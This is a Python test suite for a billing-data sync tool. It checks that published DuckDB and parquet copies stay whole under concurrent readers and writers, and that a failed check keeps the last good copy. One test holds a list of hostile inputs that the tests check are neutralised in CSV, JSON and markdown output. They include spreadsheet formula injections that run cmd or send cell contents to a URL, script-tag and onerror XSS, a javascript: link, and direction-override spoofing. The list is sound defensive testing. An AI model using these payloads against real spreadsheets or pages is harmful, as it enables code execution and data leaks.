"""What others open: the last copy that passed its checks, whole, whoever reads or writes."""

import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import duckdb
import orjson
import pyarrow.parquet as pq
from click.testing import Result
from tests.conftest import Warehouse

from m3ter_sync.sandbox import Sandbox, World
from m3ter_sync.warehouse.manifest import read_manifest
from m3ter_sync.warehouse.sync import Sync

Run = Callable[..., Result]
PUBLISHED = Path("data/published")
# Opens what is published again and again until it is told to stop; each time, all that it reads
# must be of one instant. What it prints is every instant that it saw.
READER = """
import duckdb, json, pathlib, pyarrow, sys, threading
from pyarrow import parquet
folder = pathlib.Path(sys.argv[1])
stop = threading.Event()
threading.Thread(target=lambda: (sys.stdin.readline(), stop.set()), daemon=True).start()
seen, count = [], 0
print("reading", flush=True)
is_last = False
while not is_last:
    # What was published before the order to stop is read too.
    is_last = stop.wait(0.05)
    with duckdb.connect(folder / "m3ter.duckdb", read_only=True) as connection:
        runs, daily, deliveries, last, as_of = connection.execute(
            "select (select count(*) from integration_runs), "
            "(select sum(run_count) from integration_failure_rate_daily), "
            "(select sum(attempt_count) from integration_deliveries), "
            "(select max_by(sync_id, started_at) from load_history), "
            "(select epoch_us(max(as_of)) from sync_status)"
        ).fetchone()
    assert runs == daily == deliveries, (runs, daily, deliveries)
    # Opened once; who opens a file twice may get two (docs/decisions/0014-publishing.md).
    for file in folder.glob("*.parquet"):
        parquet.read_table(pyarrow.BufferReader(file.read_bytes())).validate(full=True)
    manifest = json.loads((folder / "manifest.json").read_text())
    assert set(manifest["files"]) <= {path.name for path in folder.iterdir()}
    count += 1
    if last not in seen:
        seen.append(last)
print(json.dumps({"seen": seen, "count": count}))
"""
# Opens what is published once, and asks the same question until it is told to stop.
HOLDER = """
import duckdb, sys
connection = duckdb.connect(sys.argv[1], read_only=sys.argv[2] == "read")
sql = "select count(*), max(started_at)::varchar from integration_runs"
ask = lambda: connection.execute(sql).fetchone()
first = ask()
print("open", flush=True)
sys.stdin.readline()
assert ask() == first
print("the same", flush=True)
"""


@contextmanager
def started(program: str, *args: str | Path) -> Iterator[Callable[[], str]]:
    """A Python program in a process of its own; what is given stops it and has its last line."""
    with subprocess.Popen(
        [sys.executable, "-c", program, *map(str, args)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    ) as process:

        def stop() -> str:
            output, errors = process.communicate("\n", timeout=60)
            assert process.returncode == 0, errors
            return output.splitlines()[-1]

        try:
            assert process.stdout
            assert process.stdout.readline()
            yield stop
        finally:
            process.kill()


def sync(warehouse: Warehouse) -> str:
    summary = Sync(warehouse.settings(), warehouse.location).run()
    assert summary.outcome == "succeeded"
    assert summary.failed_checks == []
    return summary.sync_id


def spoil(world: World) -> dict[str, Any]:
    """Gives one run a status that nobody knows: a check fails."""
    run = next(iter(world.listed_runs().values()))
    run["status"], run["version"] = "PAUSED", run["version"] + 1
    return run


def read_all(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def test_ten_syncs_are_read_without_an_error_a_wait_or_half_a_copy(warehouse: Warehouse) -> None:
    location = warehouse.location
    made = [sync(warehouse)]
    with (
        started(READER, location.published_folder) as read_on,
        started(HOLDER, location.published_database, "read") as hold_on,
    ):
        for _ in range(10):
            warehouse.sandbox.world.advance(days=1)
            made.append(sync(warehouse))
            manifest = read_manifest(location.published_folder)
            assert manifest
            assert manifest.sync_id == made[-1]
        found = json.loads(read_on())
        assert hold_on() == "the same"
    assert found["seen"] == [sync_id for sync_id in made if sync_id in found["seen"]]
    assert found["seen"][-1] == made[-1]
    assert len(found["seen"]) >= 5


def test_whoever_opens_the_copy_for_writing_keeps_neither_a_sync_nor_the_next_reader_waiting(
    warehouse: Warehouse,
) -> None:
    sync(warehouse)
    database = warehouse.location.published_database
    with started(HOLDER, database, "write") as hold_on:
        warehouse.sandbox.world.advance(days=1)
        newest = sync(warehouse)
        with started(READER, database.parent) as read_on:
            assert json.loads(read_on())["seen"] == [newest]
        assert hold_on() == "the same"


def test_a_failed_check_leaves_the_last_good_copy_in_place_and_says_so(
    run: Run, world: World
) -> None:
    assert run("sync").exit_code == 0
    good = read_all(PUBLISHED)
    assert b"</html>" in good["report.html"]
    world.advance(days=1)
    spoiled = spoil(world)

    result = run("sync", "--full")
    assert result.exit_code == 3
    assert "Checks       failed: statuses_known; m3ter-sync check shows the rows" in result.stdout
    assert re.search(r"^Published    still the copy of 20.* UTC$", result.stdout, re.M)
    (warning,) = [line for line in result.stderr.splitlines() if "WARNING" in line]
    assert "Not published, readers keep the copy of 20" in warning
    assert "m3ter-sync publish --force" in warning
    assert read_all(PUBLISHED) == good

    report = orjson.loads(run("sync", "--json").stdout)
    assert report["failed_checks"] == ["statuses_known"]
    assert report["is_published"] is False
    assert report["published_at"] == orjson.loads(good["manifest.json"])["published_at"]
    assert report["published_database"] == str((PUBLISHED / "m3ter.duckdb").absolute())
    assert report["report"] == str((PUBLISHED / "report.html").absolute())

    spoiled["status"], spoiled["version"] = "COMPLETE", spoiled["version"] + 1
    report = orjson.loads(run("sync", "--full", "--json").stdout)
    assert report["is_published"] is True
    assert read_all(PUBLISHED).keys() == good.keys()
    assert read_all(PUBLISHED)["m3ter.duckdb"] != good["m3ter.duckdb"]
    assert read_all(PUBLISHED)["report.html"] != good["report.html"]


def test_a_report_that_cannot_be_written_keeps_nobody_from_the_numbers(run: Run) -> None:
    (PUBLISHED / "report.html" / "in the way").mkdir(parents=True)
    result = run("sync")
    assert result.exit_code == 1
    assert re.fullmatch(
        r"Error: .*/report\.html cannot be written: Is a directory\. What was published .*",
        result.stderr.splitlines()[-1],
    )
    assert run("query", "--name", "failure_rate_now").exit_code == 0
    assert [path.name for path in PUBLISHED.glob(".report*")] == []


def test_a_first_sync_that_fails_a_check_publishes_nothing_until_that_is_asked_for(
    run: Run, world: World
) -> None:
    spoil(world)
    result = run("sync")
    assert result.exit_code == 3
    assert "there is no earlier copy" in result.stderr
    assert "Published    nothing yet" in result.stdout
    assert not PUBLISHED.exists()
    report = orjson.loads(run("sync", "--json").stdout)
    assert report["is_published"] is False
    assert report["published_database"] is report["published_at"] is report["report"] is None

    asked = run("query", "--name", "failure_rate_now")
    assert asked.exit_code == 0
    assert "No copy is published yet" in asked.stderr

    refused = run("publish")
    assert refused.exit_code == 3
    assert refused.stderr.startswith("Error: Not published, there is no earlier copy: ")
    assert not PUBLISHED.exists()
    assert run("publish", "--force").exit_code == 0
    assert run("query", "--name", "failure_rate_now").stderr == ""


HOSTILE = (
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r\n=1+1",
    "'=1+1",
    "-12.5",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "</td></tr></table>--><!-- \"'`;drop table runs;--",
    "| a | b |\n|---|---|\n[x](javascript:alert(1))",
    "{{7*7}} ${7*7} %s %n",
    "\u202egnp.exe\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\U0001f926\U0001f3fc\u200d\u2642\ufe0f \u0301\u0302 e\u0301 \ufeff",
    "\x1b[31mred\x07 a\\nb \x7f",
    'comma, "quote", semicolon; and\nnew lines\r\nof all\rkinds',
    "x" * 100_000,
    "=" + '\U0001f600<b>,"\n' * 14_000,
)


def test_a_hostile_world_comes_out_unharmed_and_harmless(
    run: Run, sandbox: Sandbox, world: World
) -> None:
    runs = [each for each in world.listed_runs().values() if each["status"] == "ERROR"]
    runs = runs[: len(HOSTILE)]
    assert len(runs) == len(HOSTILE)
    for each, text in zip(runs, HOSTILE, strict=True):
        each["error"] = text
    notifications = [*world.notification_configurations.values()][: len(HOSTILE)]
    for each, text in zip(notifications, HOSTILE, strict=False):
        each["name"] = text
    assert run("sync").exit_code == 0
    errors = {each["id"]: text for each, text in zip(runs, HOSTILE, strict=True)}
    names = {each["id"]: each["name"] for each in notifications}

    with duckdb.connect(PUBLISHED / "m3ter.duckdb", read_only=True) as connection:
        rows = connection.execute("select run_id, error from integration_runs").fetchall()
    assert errors.items() <= dict(rows).items()
    for file, key, value, expected in (
        ("integration_runs", "run_id", "error", errors),
        ("notification_coverage", "notification_id", "notification_name", names),
    ):
        columns = pq.read_table(PUBLISHED / f"{file}.parquet", columns=[key, value]).to_pydict()
        assert expected.items() <= dict(zip(*columns.values(), strict=True)).items()

        sql = f"select {key} as id, {value} as text, -0.5 as number from {file}"
        printed = run("query", sql, "--format", "json").stdout
        assert (
            expected.items() <= {each["id"]: each["text"] for each in orjson.loads(printed)}.items()
        )

        text = run("query", sql, "--format", "csv").stdout_bytes.decode()
        cells = [*csv.DictReader(io.StringIO(text, newline=""), strict=True)]
        assert {cell["number"] for cell in cells} == {"-0.5"}
        for cell in cells:
            assert cell["text"] == "-12.5" or not cell["text"].startswith(tuple("=+-@\t\r\n"))
        read_back = {
            cell["id"]: re.sub(r"^'('*[=+\-@\t\r\n])", r"\1", cell["text"]) for cell in cells
        }
        assert expected.items() <= read_back.items()

        table = run("query", sql, "--format", "markdown").stdout
        assert not re.search(r"<\w|(?<!\\)\[", table)
        assert len(table.splitlines()) == len(cells) + 2
        assert {len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()} == {4}

        shown = run("query", sql).stdout
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f\u202e]", shown)
